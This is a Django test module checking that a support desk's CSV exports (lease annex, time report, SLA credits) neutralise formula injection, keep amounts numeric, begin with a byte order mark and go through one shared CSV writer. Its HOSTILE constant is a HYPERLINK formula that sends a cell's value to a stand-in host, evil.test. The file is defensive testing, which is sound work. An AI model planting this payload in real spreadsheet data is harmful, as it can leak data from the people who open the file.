"""Every CSV the desk writes goes through ``core.csv``: a name or a note someone typed as
a formula comes out as text, never as something a spreadsheet runs; amounts stay numbers."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from availability import services as availability_services
from availability.models import Credit
from availability.services import records
from entitlements.services.time import time_log
from partners.roles import Role
from tests.availability.factories import IncidentFactory, ServiceFactory, SubscriptionFactory
from tests.entitlements.factories import EntitlementFactory
from tests.factories import OrganisationFactory, StaffFactory, UserFactory
from tests.hwaas.factories import HardwareModelFactory, LeaseAgreementFactory, LeaseLineFactory
from tests.tickets.factories import open_case

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
NOVEMBER = date(2026, 11, 1)
PACKAGES = ("core", "partners", "tickets", "sla", "entitlements", "availability", "hwaas")
PACKAGES += ("desk", "supportdesk")


def rows_of(response) -> list[dict]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def neutralised(value: str) -> bool:
    return value == "'" + HOSTILE


def test_the_annex_a_export(client, policies, calendars):
    agreement = LeaseAgreementFactory(number="-HW-0001", lessor__name=HOSTILE)
    LeaseLineFactory(
        agreement=agreement,
        hardware_model=HardwareModelFactory(name=HOSTILE, description="@SUM(1+1)"),
        device__serial_number="+SN-1",
        fee=Decimal("8.00"),
    )
    client.force_login(UserFactory(organisation=agreement.lessor))

    (row,) = rows_of(client.get(reverse("hwaas:annex_csv", args=[agreement.pk])))

    assert neutralised(row["model"])
    assert row["description"] == "'@SUM(1+1)"
    assert row["serial_number"] == "'+SN-1"
    assert row["agreement"] == "'-HW-0001"
    assert row["fee"] == "8.00"


def test_the_time_report_export(client, policies):
    organisation = OrganisationFactory(name=HOSTILE, tier="silver")
    agent = StaffFactory(roles=[Role.AGENT], full_name="-Eve")
    time_log(
        ticket=open_case(UserFactory(organisation=organisation)),
        actor=agent,
        minutes=15,
        entitlement=EntitlementFactory(organisation=organisation, reference="+BND-1"),
        note=HOSTILE,
    )
    client.force_login(agent)

    (row,) = rows_of(client.get(reverse("entitlements:time_report_csv")))

    assert neutralised(row["organisation"])
    assert neutralised(row["note"])
    assert row["agent"] == "'-Eve"
    assert row["bundle"] == "'+BND-1"
    assert row["minutes"] == "15"


def utc(*parts) -> datetime:
    return datetime(*parts, tzinfo=UTC)


def test_the_credits_export_keeps_a_negative_credit_a_number(client, policies):
    """A credit applied on an invoice, then the outage behind it found shorter: December
    carries the difference back as a negative adjustment."""
    billing = StaffFactory(roles=[Role.BILLING])
    service = ServiceFactory(name=HOSTILE)
    SubscriptionFactory(
        organisation=OrganisationFactory(name=HOSTILE, tax_id="-IT0123"),
        reference="@SUB-1",
        services=[service],
        monthly_fee=Decimal("125.00"),
    )
    outage = IncidentFactory(
        title=HOSTILE,
        services=[service],
        started_at=utc(2026, 11, 10, 8),
        ended_at=utc(2026, 11, 10, 8) + timedelta(days=30) / 100 + timedelta(minutes=1),
    )
    availability_services.credits_compute(month=NOVEMBER)
    credit = Credit.objects.get(month=NOVEMBER)
    availability_services.credit_approve(credit=credit, actor=billing)
    availability_services.credit_apply(credit=credit, actor=billing, invoice_number="=INV-1")
    records.incident_update(
        incident=outage, actor=billing, ended_at=outage.started_at + timedelta(minutes=1)
    )
    availability_services.credits_compute(month=NOVEMBER)
    client.force_login(billing)

    november, adjustment = (
        rows_of(client.get(reverse("availability:billing_csv"), {"month": month}))[-1]
        for month in ("2026-11", "2026-12")
    )

    for row in (november, adjustment):
        assert neutralised(row["organisation"])
        assert neutralised(row["services"])
        assert row["tax_id"] == "'-IT0123"
        assert row["subscription_reference"] == "'@SUB-1"
    assert november["invoice_number"] == "'=INV-1"
    assert november["incidents"] == f"{outage.pk}: {HOSTILE}"  # starts with the id
    assert november["credit"] == "12.50"
    assert adjustment["credit"] == "-12.50"  # a number, left as one


def test_no_export_writes_csv_by_itself():
    """``core.csv`` is the one place that writes CSV; an export elsewhere would skip it."""
    root = Path(settings.BASE_DIR)
    writers = [
        path.relative_to(root).as_posix()
        for app in PACKAGES
        for path in (root / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["core/csv.py"]


ACCENTED = "Müller GmbH"


def opened_like_a_spreadsheet(response) -> list[dict]:
    """The download as bytes: a byte order mark first, then UTF-8 text."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"\xef\xbb\xbf")
    assert not body[3:].startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_annex_a_export_starts_with_a_byte_order_mark(client, policies, calendars):
    agreement = LeaseAgreementFactory(lessor__name=ACCENTED)
    LeaseLineFactory(agreement=agreement, hardware_model=HardwareModelFactory(name=ACCENTED))
    client.force_login(UserFactory(organisation=agreement.lessor))

    (row,) = opened_like_a_spreadsheet(client.get(reverse("hwaas:annex_csv", args=[agreement.pk])))

    assert row["model"] == ACCENTED


def test_the_time_report_export_starts_with_a_byte_order_mark(client, policies):
    organisation = OrganisationFactory(name=ACCENTED, tier="silver")
    agent = StaffFactory(roles=[Role.AGENT])
    time_log(
        ticket=open_case(UserFactory(organisation=organisation)),
        actor=agent,
        minutes=15,
        note="Überprüfung der Leitung",
    )
    client.force_login(agent)

    (row,) = opened_like_a_spreadsheet(client.get(reverse("entitlements:time_report_csv")))

    assert (row["organisation"], row["note"]) == (ACCENTED, "Überprüfung der Leitung")
    assert next(iter(row)) == "worked_on"  # the header reads right after the mark


def test_the_credits_export_starts_with_a_byte_order_mark(client, policies):
    SubscriptionFactory(
        organisation=OrganisationFactory(name=ACCENTED),
        services=[ServiceFactory(name="UC Cloud EU")],
        monthly_fee=Decimal("125.00"),
    )
    availability_services.credits_compute(month=NOVEMBER)
    client.force_login(StaffFactory(roles=[Role.BILLING]))

    rows = opened_like_a_spreadsheet(
        client.get(reverse("availability:billing_csv"), {"month": "2026-11"})
    )

    assert [row["organisation"] for row in rows] == [ACCENTED]
